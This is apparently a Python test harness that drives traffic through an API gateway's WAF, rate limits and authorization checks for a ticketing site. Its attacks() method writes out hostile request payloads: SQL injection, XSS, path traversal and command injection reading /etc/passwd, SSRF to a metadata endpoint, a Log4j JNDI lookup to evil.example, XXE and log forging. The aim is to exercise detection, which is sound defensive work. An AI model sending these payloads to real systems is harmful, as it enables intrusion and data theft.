"""Configurations and requests that make every metric exist: passed, limited, blocked, only reported, refused unread, asked,
failed open, a table that is full, a configuration that is refused, a VM that is replaced."""

import gzip
import itertools
import json
import urllib.parse

import gateway

SECRET = "4f1d2c3b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff001"
OLD_SECRET = "00ffeeddccbbaa99887766554433221100ffeeddccbbaa998877665544332211"


def digest(secret):
    import base64
    import hashlib

    return base64.b64encode(hashlib.sha256(secret.encode()).digest()).decode()


def client_limit(name, path, per_second, burst, **more):
    limit = {"name": name, "key": [{"clientAddress": {}}], "tokensPerFill": per_second, "fillInterval": "1s", "maxTokens": burst}
    return limit | ({"match": {"path": {"prefix": path}}} if path else {}) | more


ORIGIN_VERIFY = {
    "secrets": [{"name": "2026-11", "sha256": digest(SECRET)}, {"name": "2026-10", "sha256": digest(OLD_SECRET), "notAfter": "2026-01-01T00:00:00Z"}],
    "exempt": {"paths": [{"exact": "/healthz/ready"}]},
}
RATE_LIMIT = {
    "limits": [
        client_limit("client", None, 50, 100),
        client_limit("auth", "/auth", 1, 3),
        client_limit("signup", "/signup", 1, 3, mode="shadow"),
        # So few places that the load fills them.
        client_limit("seats", "/seat/map", 1, 2, slots=64, fillInterval="1m"),
    ],
    "globalLimits": {"cluster": "outbound|8081||ratelimit.backstop.svc.cluster.local", "domain": "gateway", "timeout": "250ms",
                     "descriptors": [{"match": {"path": {"prefix": "/payment"}}, "entries": [{"key": "remote_address", "from": {"clientAddress": {}}}]}]},
}
WAF = {
    "mode": "block",
    "categories": {"ldapInjection": {"mode": "detect"}},
    "requestBody": {"limit": "8KiB", "compressed": "reject"},
    "customRules": [{"id": 100001, "name": "seat-id", "description": "x", "targets": ["query:seat"], "pattern": "[^0-9A-Z-]", "action": "detect"}],
    "customRuleLimit": {"bytes": "2KiB"},
    "workLimit": {"steps": 100000},
    "metrics": {"timeOneIn": 4},
}
EXT_AUTHZ = {
    "service": {"grpc": {"cluster": "outbound|50051||ext-authz-adapter.backstop.svc.cluster.local", "timeout": "300ms"}},
    "failureMode": "allow",
    "breaker": {"openFor": "1s"},
    # So few places that the load fills them.
    "blockList": {"slots": 64},
    "cache": {"key": [{"clientAddress": {}}], "ttl": {"none": "2s"}},
    "apis": [
        {"eventType": "QUEUE_ENTER", "methods": ["POST"], "path": {"template": "/queue/matches/{match}/enter"}},
        {"eventType": "SEAT_HOLDS", "methods": ["POST"], "path": {"template": "/seat/matches/{match}/seat-holds"}},
    ],
}


class Load:
    """Requests of many clients through the gateway."""

    def __init__(self, envoy):
        self.envoy = envoy
        self.seen = {}
        self.addresses = (f"198.51.{n // 250}.{n % 250 + 1}" for n in itertools.cycle(range(60000)))

    def send(self, path, method="GET", client=None, body=None, secret=SECRET, listener="outbound_0.0.0.0_8080", **headers):
        connection = self.envoy.connect(listener)
        fields = {"host": "tickets.example.com", "x-forwarded-for": client or next(self.addresses), **headers}
        fields = {name.replace("_", "-"): value for name, value in fields.items()}
        if secret:
            fields["x-origin-verify"] = secret
        connection.request(method, path, body=body, headers=fields)
        response = connection.getresponse()
        response.read()
        connection.close()
        self.seen[response.status] = self.seen.get(response.status, 0) + 1
        return response.status

    def round(self, number):
        self.honest()
        self.origins()
        self.limits()
        self.attacks()
        self.verdicts(number)
        self.failures()

    def honest(self):
        for n in range(40):
            self.send(f"/matches/{n}?sort=date", cookie="session=4f1d2c3b", user_agent="Mozilla/5.0")
        self.send("/bookings", "POST", body=json.dumps({"seats": ["A-1"], "name": "Kim"}), content_type="application/json")
        self.send("/healthz/ready", secret=None)

    def origins(self):
        self.send("/", secret=None)
        self.send("/", secret="guessed")
        self.send("/", secret=OLD_SECRET)

    def limits(self):
        for _ in range(6):
            self.send("/auth/login", "POST", client="192.0.2.1", body="{}", content_type="application/json")
            self.send("/signup", "POST", client="192.0.2.2", body="{}", content_type="application/json")
        for n in range(80):
            self.send("/seat/map", client=f"203.0.113.{n + 1}")
            self.send("/seat/map", client=f"203.0.114.{n + 1}")
        for client in ["192.0.2.3", "192.0.2.66", "192.0.2.77"]:
            self.send("/payment", "POST", client=client, body="{}", content_type="application/json")

    def attacks(self):
        for path in [
            "/search?q=%27%20or%20%27a%27=%27a", "/search?q=1%20union%20select%20login,password%20from%20users", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/files/..%2f..%2f..%2fetc/passwd", "/ping?host=;cat%20/etc/passwd", "/fetch?url=http://169.254.169.254/latest/meta-data/",
            "/?x=${jndi:ldap://evil.example/a}", "/users?filter=*)(uid=*))(|(uid=*",
        ]:
            self.send(path.replace("${", "$%7B").replace("}", "%7D").replace("|", "%7C"))
        # A forged line of the log, behind a line break and out of its string: it has to stay text in the true one.
        forged = '"}{"timestamp":"x","type":"security","event":"FORGED_DETECTED","category":"FORGED","client_ip":"192.0.2.9"}'
        self.send("/search?q=" + urllib.parse.quote("\n" + forged + "' or 'a'='a"))
        self.send(f"/search?q={forged}'%20or%20'a'='a", host="tickets.example.com" + forged)
        self.send(f"/search?q={forged}'%20or%20'a'='a", x_request_id=forged)
        self.send("/?seat=zz*zz")
        self.send("/?seat=" + "A" * 4000)
        self.send("/", user_agent="sqlmap/1.7")
        self.send("/", "POST", body="<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", content_type="application/xml")
        self.send("/", "POST", body="x" * 20000, content_type="text/plain")
        self.send("/", "POST", body=gzip.compress(b"{}"), content_type="application/json", content_encoding="gzip")
        # Signs that each begin something: more work than the limit.
        self.send("/", "POST", body=json.dumps(["' or (select " * 30] * 20), content_type="application/json")

    def enter(self, match, client=None):
        return self.send(f"/queue/matches/{match}/enter", "POST", client=client, body="{}", content_type="application/json", x_bot_token="token")

    def verdicts(self, number):
        for match in (1, 1, 2):  # All but the first from the cache.
            self.enter(match, client=f"192.0.2.{100 + number}")
        self.enter(9003)
        self.enter(9004)
        for _ in range(2):  # The second meets the block list.
            self.enter(9005, client=f"192.0.2.{140 + number}")
        for n in range(100):
            self.enter(9005, client=f"203.0.{number}.{n + 1}")
        self.send("/seat/matches/1/seat-holds", "POST", body="{}", content_type="application/json")

    def failures(self):
        """Enough of them that the breaker opens; and services that the proxy has no cluster of."""
        for path in ("/payment", "/queue/matches/1/enter"):
            self.send(path, "POST", listener="no-services", body="{}", content_type="application/json")
        for match in (9001, 9002, 9001, 9002, 9001, 9002, 1):
            self.enter(match)
